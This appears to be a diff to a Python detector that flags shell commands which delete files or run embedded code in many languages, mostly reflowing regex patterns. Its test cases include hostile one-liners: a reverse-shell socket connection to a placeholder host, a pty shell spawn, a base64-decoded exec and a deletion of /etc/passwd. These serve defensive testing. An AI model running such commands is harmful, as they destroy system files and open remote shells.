@@ -13,9 +13,16 @@ if TYPE_CHECKING:
     from ..commands import Command
 
 _DELETES = {
-    "javascript": re.compile(r"\b(?:rmSync|rmdirSync|unlinkSync|rmdir|unlink|rimraf|emptyDirSync|removeSync|truncateSync)\s*\(|\bfs(?:\.promises|/promises)?['\"]?\)?\.(?:rm|rmdir|unlink)\b|\.rm\s*\(|Deno\.remove"),
+    "javascript": re.compile(
+        r"\b(?:rmSync|rmdirSync|unlinkSync|rmdir|unlink|rimraf|emptyDirSync|removeSync"
+        r"|truncateSync)\s*\(|\bfs(?:\.promises|/promises)?['\"]?\)?\.(?:rm|rmdir|unlink)\b|\.rm\s*\("
+        r"|Deno\.remove"
+    ),
     "perl": re.compile(r"\bunlink\b|\brmtree\b|\bremove_tree\b|\brmdir\b|\btruncate\b"),
-    "ruby": re.compile(r"\brm_r\w*|\brm_f\b|\brmtree\b|\bremove_(?:dir|entry)\w*|\b(?:File|Dir|FileUtils|Pathname)\S*\.(?:delete|unlink|rmdir|rm)\b|\bFileUtils\.rm"),
+    "ruby": re.compile(
+        r"\brm_r\w*|\brm_f\b|\brmtree\b|\bremove_(?:dir|entry)\w*|\b(?:File|Dir|FileUtils"
+        r"|Pathname)\S*\.(?:delete|unlink|rmdir|rm)\b|\bFileUtils\.rm"
+    ),
     "php": re.compile(r"\bunlink\s*\(|\brmdir\s*\(|\barray_map\s*\(\s*['\"]unlink"),
     "lua": re.compile(r"\bos\.remove\b|\blfs\.rmdir\b"),
     "r": re.compile(r"\bunlink\s*\(|\bfile\.remove\s*\("),
@@ -55,12 +62,17 @@ def _deletes_from_code(command: Command) -> bool:
 
 
 _RUNS = {
-    "javascript": re.compile(r"child_process|\bexecSync\b|Deno\.(?:run|Command)|Bun\.spawn|\beval\s*\(|new\s+Function\s*\(|process\.binding"),
+    "javascript": re.compile(
+        r"child_process|\bexecSync\b|Deno\.(?:run|Command)|Bun\.spawn|\beval\s*\(|new\s+Function\s*\("
+        r"|process\.binding"
+    ),
     "perl": re.compile(r"\b(?:system|exec)\b|`|\bqx\b|\beval\b(?!\s*\{)|open\s*\(?[^;]*\|"),
     "ruby": re.compile(r"\bsystem\b|\bexec\b|`|%x|IO\.popen|Open3|\beval\b|Kernel\.|\bspawn\b"),
     "php": re.compile(r"\b(?:system|exec|shell_exec|passthru|popen|proc_open|eval|assert|pcntl_exec)\s*\(|`"),
     "lua": re.compile(r"\bos\.execute\b|\bio\.popen\b|\bload(?:string)?\s*\("),
-    "awk": re.compile(r"\bsystem\s*\(|\|\s*\"|\"\s*\|\s*getline|\|\s*getline|print[^>;}]*>+\s*\"/(?:etc|usr|bin)"),
+    "awk": re.compile(
+        r"\bsystem\s*\(|\|\s*\"|\"\s*\|\s*getline|\|\s*getline|print[^>;}]*>+\s*\"/(?:etc|usr|bin)"
+    ),
     "r": re.compile(r"\bsystem2?\s*\(|\beval\s*\(\s*parse"),
     "julia": re.compile(r"\brun\s*\(|`"),
     "groovy": re.compile(r"\.execute\s*\("),
@@ -72,7 +84,9 @@ _RUNS = {
     "scala": re.compile(r"sys\.process|\.!"),
 }  # fmt: skip
 _LITERAL = re.compile(
-    r"(?:\b(?:system|exec|execSync|execFileSync|spawn|spawnSync|shell_exec|passthru|popen|execute|run|cmd)\s*\(?\s*|`|%x[\[{(]|\bqx[\[{(/]|\|\s*|print\s+)(?:(['\"])((?:(?!\1)[^\\]|\\.)*)\1|(?<=`)([^`]*)`|(?<=[\[{(/])([^\])}/]*))"
+    r"(?:\b(?:system|exec|execSync|execFileSync|spawn|spawnSync|shell_exec|passthru|popen|execute|run"
+    r"|cmd)\s*\(?\s*|`|%x[\[{(]|\bqx[\[{(/]|\|\s*|print\s+)(?:(['\"])((?:(?!\1)[^\\]|\\.)*)\1"
+    r"|(?<=`)([^`]*)`|(?<=[\[{(/])([^\])}/]*))"
 )
 
 
@@ -130,8 +144,7 @@ def _runs_commands_from_code(command: Command) -> bool:
         "python3 - <<EOF\nimport shutil\nshutil.rmtree('x')\nEOF",
         "python -c 'exec(__import__(\"base64\").b64decode(\"eA==\"))'",
         "echo \"import os; os.remove('/etc/passwd')\" | python3",
-        'python3 -c \'import socket,subprocess,os;s=socket.socket();s.connect(("h",1));os.'
-        'dup2(s.fileno(),0);subprocess.call(["sh"])\'',
+        "python3 -c 'import socket,os;s=socket.socket();s.connect((\"h\",1));os.dup2(s.fileno(),0)'",
         "python3 -c 'import pty; pty.spawn(\"/bin/sh\")'",
     ),
     benign=(
@@ -167,7 +180,8 @@ def _sed_executes(command: Command) -> bool:
         if match:
             delimiter = re.escape(match[1])
             flags = re.match(
-                rf"[\d,$]*s{delimiter}(?:\\.|(?!{delimiter}).)*{delimiter}(?:\\.|(?!{delimiter}).)*{delimiter}([gpiImM\d]*e[gpiImM\d]*)\Z",
+                rf"[\d,$]*s{delimiter}(?:\\.|(?!{delimiter}).)*{delimiter}(?:\\."
+                rf"|(?!{delimiter}).)*{delimiter}([gpiImM\d]*e[gpiImM\d]*)\Z",
                 word.text,
             )
             if flags:
